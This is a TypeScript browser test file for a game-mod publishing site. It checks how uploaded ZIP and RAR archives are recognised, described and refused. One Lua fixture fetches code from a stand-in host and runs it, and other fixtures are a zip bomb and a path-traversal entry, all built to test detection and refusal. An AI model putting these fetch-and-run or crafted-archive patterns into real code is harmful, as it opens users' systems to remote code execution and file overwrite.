import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ADMINISTRATOR, adminPage, sessionOf } from '#tests/browser/administrator.ts'
import { accessibilityFindings } from '#tests/browser/check-accessibility.ts'
import type { OpenSite } from '#tests/browser/open-site.ts'
import {
  acknowledge,
  openPublishingSite,
  type PublishingSite,
  picker,
  publish,
  type TestFiles,
} from '#tests/browser/publish-steps.ts'
import { makeRar4, makeRar5 } from '#tests/make-rar.ts'
import { type ArchiveParts, makeZip, renameInZip } from '#tests/make-zip.ts'

let publishing: PublishingSite
let site: OpenSite
let files: TestFiles
let session: Awaited<ReturnType<typeof sessionOf>>
let id: number

beforeAll(async () => {
  publishing = await openPublishingSite()
  ;({ site, files } = publishing)
  session = await sessionOf(site, ADMINISTRATOR)
})
afterAll(() => publishing.close())

const upload = (name: string, buffer: Buffer) => ({ name, mimeType: '', buffer })

/** Gives the mod another file through the form, and opens its page. */
async function replaceFile(name: string, bytes: Buffer) {
  const page = await site.page({ storageState: session, isKept: true })
  await page.goto(`/update/${id}`)
  await picker(page, 'File').setInputFiles(upload(name, bytes))
  await page.getByRole('button', { name: 'Update', exact: true }).click()
  await acknowledge(page, '“Every Kind” is updated')
  await page.goto(`/mod/${id}`)
  return page
}

const RESOURCE = {
  'taxi/fxmanifest.lua': "name 'Taxi'\nversion '1.4.2'\nserver_script 'server.lua'",
  'taxi/server.lua': "PerformHttpRequest('https://example.org', function(_, t) load(t)() end)",
}
const zip = (parts: ArchiveParts) => makeZip(parts)
const packed = { isPacked: true }

it('a mod is published, whose file is then replaced', async () => {
  id = await publish(await adminPage(site), files, 'Every Kind')
  expect(id).toBeGreaterThan(0)
})

describe('a published file is known by its contents:', () => {
  it.each<[string, string, () => Promise<Buffer> | Buffer]>([
    ['On a 5M server', 'taxi.zip', () => zip(RESOURCE)],
    ['On a 5M server', 'old.zip', () => zip({ 'taxi/__resource.lua': "description 'x'" })],
    ['On a 5M server', 'taxi.rar', () => makeRar4(RESOURCE)],
    ['With OpenIV, as a package', 'package.zip', () => zip({ 'mod.oiv': 'x' })],
    ['Add-on in single player', 'turbo.zip', () => zip({ 'turbo/dlc.rpf': 'x' })],
    ['Replacing models and textures', 'wheel.zip', () => zip({ 'a.yft': 'x', 'a.ytd': 'x' })],
    ['Plugin in single player', 'trainer.zip', () => zip({ 'Trainer.asi': 'x' })],
    ['Script in single player', 'fly.zip', () => zip({ 'scripts/Fly.cs': 'x' })],
    ['Lua script in single player', 'lua.zip', () => zip({ 'scripts/addins/fly.lua': 'x' })],
    ['With Menyoo', 'menyoo.rar', () => makeRar5({ 'a.xml': '<SpoonerPlacements/>' }, packed)],
    ['Map in single player', 'map.zip', () => zip({ 'a.ymap': 'x' })],
    ['With the Map Editor', 'editor.zip', () => zip({ 'a.xml': '<Map><Objects/></Map>' })],
    ['With ReShade', 'night.rar', () => makeRar4({ 'Night.ini': 'Techniques=Bloom' }, packed)],
    ['With ENB', 'enb.zip', () => zip({ 'enbseries.ini': '[GLOBAL]' })],
  ])('%s, %s', async (heading, name, make) => {
    const page = await replaceFile(name, await make())
    const guide = page.getByRole('region', { name: 'How to install it' })
    await guide.getByRole('heading', { name: heading, exact: true }).waitFor()
  })

  it.each([
    ['4', makeRar4],
    ['5', makeRar5],
  ])('a packed RAR %s, with what its manifest and its scripts say', async (version, make) => {
    const page = await replaceFile(`packed-${version}.rar`, make(RESOURCE, packed))
    const inside = page.getByRole('region', { name: 'What’s inside' })
    await inside.getByText('Taxi 1.4.2').waitFor()
    await inside.getByRole('button', { name: 'Show the files' }).click()
    await inside.getByRole('treeitem', { name: /server\.lua/ }).waitFor()
    await inside.getByText('Text run as code').first().waitFor()
  })
})

describe('what could not be read is said in plain words, in the form and on the page:', () => {
  it.each<[RegExp, string, Buffer]>([
    [
      /We could read only the names of some of its files/,
      'solid.rar',
      makeRar4({ 'readme.txt': 'x', ...RESOURCE }, { ...packed, isSolid: true }),
    ],
    [/password-protected/, 'locked.rar', makeRar5(RESOURCE, { isEncrypted: true })],
  ])('%s', async (text, name, bytes) => {
    const form = await adminPage(site)
    await form.goto('/add')
    await picker(form, 'File').setInputFiles(upload(name, bytes))
    await form.getByText(text).waitFor()
    expect(await accessibilityFindings(form)).toEqual([])
    const page = await replaceFile(name, bytes)
    await page.getByRole('region', { name: 'What’s inside' }).getByText(text).waitFor()
  })
})

describe('is refused with the reason:', () => {
  const bomb = async () => {
    const bytes = await zip({ 'a.bin': Buffer.alloc(100_000) })
    bytes.writeUInt32LE(300 * 1024 * 1024, bytes.lastIndexOf(Buffer.from('504b0102', 'hex')) + 24)
    return bytes
  }
  it.each<[string, RegExp, string, () => Promise<Buffer> | Buffer]>([
    ['a bomb', /can honestly hold/, 'bomb.zip', bomb],
    [
      'a way out',
      /outside its folder/,
      'out.zip',
      async () => renameInZip(await zip({ 'aa/b.txt': 'x' }), 'aa/b', '../b'),
    ],
    ['a cut zip', /damaged/, 'cut.zip', async () => (await zip(RESOURCE)).subarray(0, -30)],
    ['a cut rar', /damaged/, 'cut.rar', () => makeRar5(RESOURCE).subarray(0, -30)],
    [
      'hidden names',
      /whole archive is encrypted/,
      'x.rar',
      () => makeRar4(RESOURCE, { hidesNames: true }),
    ],
  ])('%s', async (_what, reason, name, make) => {
    const page = await adminPage(site)
    await page.goto('/add')
    await picker(page, 'File').setInputFiles(upload(name, await make()))
    await page.getByText(reason).first().waitFor()
  })
})
